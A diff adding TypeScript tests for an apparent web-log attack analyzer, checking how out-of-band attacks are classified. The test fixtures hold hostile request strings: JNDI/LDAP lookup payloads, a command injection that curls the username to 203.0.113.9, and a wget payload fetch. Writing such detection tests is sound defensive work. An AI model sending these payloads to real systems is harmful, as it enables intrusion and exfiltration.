@@ -459,6 +459,26 @@ describeWithData('the web server logs with known answers', () => {
 const post = (path: string, status: number, second: number, source = '203.0.113.9') =>
   line(source, `POST ${path} HTTP/1.1`, status, status === 200 ? 1_500 : 90, 'x', second);
 
+test.each([
+  ['the usual page', line('203.0.113.9', 'GET / HTTP/1.1', 200, 500, '${jndi:ldap://203.0.113.9/a}')],
+  ['a refusal', line('203.0.113.9', 'GET /nowhere?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1', 404, 90)],
+  ['the usual page', line('203.0.113.9', 'GET /ping?host=a;curl%20http://203.0.113.9/$(whoami) HTTP/1.1')],
+])('what has the server call another host is not told to have failed by %s', async (_what, attack) => {
+  const visits = ['/', '/ping?host=a', '/b', '/c'].map((path) => line('192.0.2.1', `GET ${path} HTTP/1.1`));
+  const result = await resultOf([...visits, attack]);
+  const outcomes = result.attackers.flatMap(({ classes }) => classes.map(({ success }) => success));
+  expect(new Set(outcomes)).toEqual(new Set(['unknown']));
+  expect(result.findings[0]?.title).toContain('outcome unknown (it works out of band: look for outgoing connections)');
+  expect(result.recommendations.map(({ action }) => action).join()).toContain('connections that the web server opened');
+});
+
+test('a command at a path that is not there ran nowhere, whomever it would have called', async () => {
+  const result = await resultOf([
+    line('203.0.113.9', 'GET /shell?cd+/tmp;wget+http://203.0.113.9/m HTTP/1.1', 404, 90),
+  ]);
+  expect(JSON.stringify(result)).not.toContain('out of band');
+});
+
 test('a password that is answered 200 where wrong ones were answered 401 was right', async () => {
   const guessed = await resultOf([...times(40, (at) => post('/api/login', 401, at)), post('/api/login', 200, 45)]);
   expect(guessed).toMatchObject({ verdict: 'malicious', severity: 'critical' });
